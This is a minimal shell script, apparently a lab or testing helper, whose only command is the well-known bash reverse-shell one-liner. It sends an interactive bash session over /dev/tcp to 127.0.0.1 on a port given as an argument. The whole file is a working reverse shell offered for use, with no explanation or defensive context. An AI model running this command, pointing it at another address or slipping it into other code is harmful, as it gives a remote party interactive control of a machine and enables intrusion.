#!/bin/sh
# The classic bash one-liner against 127.0.0.1:PORT: revshell_devtcp.sh PORT
/bin/bash -c "/bin/bash -i >& /dev/tcp/127.0.0.1/$1 0>&1"
